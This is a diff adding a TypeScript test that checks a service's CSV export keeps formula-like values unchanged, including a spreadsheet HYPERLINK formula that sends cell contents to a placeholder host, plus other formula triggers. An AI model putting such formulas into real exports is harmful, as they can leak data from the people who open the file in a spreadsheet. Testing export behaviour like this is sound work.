@@ -56,6 +56,19 @@ async function exported(t: Test, { get }: Pick<Service, 'get'>, name: string, qu
   return { csv, ndjson, features: geojson.features };
 }
 
+t.test('CSV has values that a spreadsheet takes for formulas exactly as they are on record', async (t) => {
+  const service = await openService(t);
+  const formulas = ['=HYPERLINK("http://x.example/"&A1)', '+1+1', '-2+3', '@SUM(A1)', "'=1"];
+  await service.importText({
+    receivers: formulas.map((serial, n) => ({ type: serial, serial, from: `200${n}-01-01`, to: `200${n}-02-01` })),
+  });
+  const { csv } = await exported(t, service, 'installations');
+  t.same(
+    csv.map(({ type, serialNumber }) => [type, serialNumber]),
+    formulas.map((serial) => [serial, serial]),
+  );
+});
+
 t.test('exports have what the collections have', async (t) => {
   const service = await openService(t, [SAMPLE]);
   const all = async (path: string, name: string): Promise<Record<string, unknown>[]> =>
